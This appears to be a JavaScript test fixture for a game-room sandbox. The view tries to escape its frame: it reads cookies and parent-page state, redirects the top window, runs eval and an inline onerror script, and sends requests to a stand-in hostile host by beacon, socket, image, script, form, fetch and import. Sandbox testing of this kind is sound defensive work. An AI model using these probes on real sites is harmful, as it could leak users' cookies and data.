// A view that tries to get out. EVIL and OWN are filled in by test_sandbox.py.
const tried = (probes) => Object.fromEntries(Object.entries(probes).map(([name, probe]) => {
  try {
    const made = probe();
    return [name, made === undefined ? "gone" : `got ${String(made)}`];
  } catch (error) {
    return [name, `threw ${error.message}`];
  }
}));

const later = {};
const follow = (name, promise) => promise.then(() => (later[name] = "got"), () => (later[name] = "threw"));
const nothing = (value) => (value === null || value === false ? undefined : value);
export default (root, game) => {
  const out = document.createElement("pre");
  root.append(out);
  const found = tried({
    cookie: () => document.cookie, "page's document": () => parent.document.title, "page's address": () => parent.location.href,
    "page's storage": () => parent.localStorage, "page's seat": () => parent.gameroom, localStorage: () => localStorage.length,
    sessionStorage: () => sessionStorage.length, "frame element": () => nothing(frameElement), open: () => nothing(open("EVIL/open")),
    "top's address": () => { top.location = "EVIL/top"; }, RTCPeerConnection: () => globalThis.RTCPeerConnection,
    eval: () => eval("1"), Function: () => Function("return 1")(), origin: () => (origin === "null" ? undefined : origin),
    beacon: () => { navigator.sendBeacon("EVIL/beacon", "x"); },
    socket: () => { new WebSocket("EVIL/socket".replace("http", "ws")).onopen = () => (later.socket = "got"); },
    source: () => { new EventSource("EVIL/source"); },
    image: () => { new Image().src = "EVIL/image"; }, "own image": () => { new Image().src = "OWN/web/own-image.png"; },
    style: () => { root.append(Object.assign(document.createElement("link"), { rel: "stylesheet", href: "EVIL/style" })); },
    script: () => { root.append(Object.assign(document.createElement("script"), { src: "EVIL/script" })); },
    frame: () => { root.append(Object.assign(document.createElement("iframe"), { src: "EVIL/frame" })); },
    preload: () => { root.append(Object.assign(document.createElement("link"), { rel: "preload", as: "fetch", href: "EVIL/preload" })); },
    form: () => { root.insertAdjacentHTML("beforeend", '<form action="EVIL/form"></form>'); root.querySelector("form").submit(); },
    "inline script": () => { root.insertAdjacentHTML("beforeend", '<img src="x:" onerror="document.title = 1">'); },
    "frame of our origin": () => {
      const inner = root.appendChild(document.createElement("iframe"));
      return nothing(inner.contentDocument);
    },
  });
  follow("fetch foreign", fetch("EVIL/fetch"));
  follow("fetch own", fetch("OWN/rooms"));
  follow("fetch own, credentials", fetch("OWN/web/own-fetch", { credentials: "include", mode: "no-cors" }));
  follow("import foreign", import("EVIL/import.js"));
  follow("import own", import("OWN/web/kit.js?from=view"));
  return { show(scene) { out.textContent = JSON.stringify({ scene, found, later, seat: game.seat }); } };
};
